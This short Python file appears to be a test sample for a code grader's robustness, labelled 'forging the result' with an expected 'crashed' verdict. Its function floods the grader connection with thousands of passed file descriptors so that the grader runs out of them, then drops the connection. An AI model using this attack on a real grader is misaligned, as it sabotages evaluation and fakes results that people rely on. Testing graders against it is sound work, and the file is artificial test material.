# Sends open descriptors over the wire, thousands of them, so that the grader has none left.
# kind: forging the result
# verdicts: crashed
# says: The process that ran your code closed its connection to the grader.
import array
import os
import socket
import struct
import time


def pool(hidden, padding):
    wire = socket.socket(fileno=os.dup(3))
    mine = [os.open("/dev/null", os.O_RDONLY) for _ in range(20)]
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", mine))]
    wire.sendmsg([struct.pack("<IQ", 4000, 0)], rights)
    for _ in range(200):
        try:
            wire.sendmsg([b"x"], rights)
        except OSError:
            break
    wire.close()
    os.close(3)
    time.sleep(60)
